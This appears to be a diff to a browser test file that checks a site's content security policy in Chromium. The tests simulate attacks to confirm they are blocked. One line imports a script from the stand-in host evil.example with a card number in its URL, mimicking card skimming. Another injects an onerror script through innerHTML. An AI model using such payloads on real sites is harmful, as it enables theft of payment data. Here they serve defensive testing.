@@ -1,4 +1,4 @@
-/** The content security policy in a real Chromium: the pages comply with it, and violations are reported. */
+/** The content security policy in a real Chromium: violations are reported, so that `stageOfFile` sees those of every page. */
 import type { Page } from 'puppeteer-core';
 import { describe, expect, it } from 'vitest';
 import { eventually } from '@driveaway/domain/testing/eventually.ts';
@@ -24,15 +24,9 @@ const blockedOn = (page: Page): Promise<string | undefined> =>
   page.evaluate(() => document.documentElement.dataset['blocked']);
 
 describe('the policy of a page', () => {
-  it.each(['/', '/outback', '/dealers', '/build-your-own/account/login', '/build-your-own/order/12345678-1234/pay'])(
-    'blocks nothing of the product’s own on %s',
-    async (path) => {
-      expect(await blockedOn(await visit(path))).toBeUndefined();
-    },
-  );
-
   it('blocks a script of somebody else in the ordering area, and operators hear of it (row 93)', async () => {
     const page = await visit('/build-your-own/account/login');
+    expect(await blockedOn(page)).toBeUndefined();
     await page.evaluate(`import('https://evil.example/tag.js?card=4444333322221111').catch(() => undefined)`);
     await eventually(() => expect(told().join()).toContain('"blocked":"https://evil.example"'));
     expect(stage().product.output()).not.toContain('4444333322221111');
@@ -57,7 +51,7 @@ describe('the policy of a page', () => {
         () => (document.createElement('div').innerHTML = '<img src="/x.png" onerror="ran = true">'),
         () =>
           Reflect.apply(
-            Reflect.get(Reflect.get(window, 'trustedTypes'), 'createPolicy'),
+            Reflect.get(Object(Reflect.get(window, 'trustedTypes')), 'createPolicy'),
             Reflect.get(window, 'trustedTypes'),
             ['mine', {}],
           ),
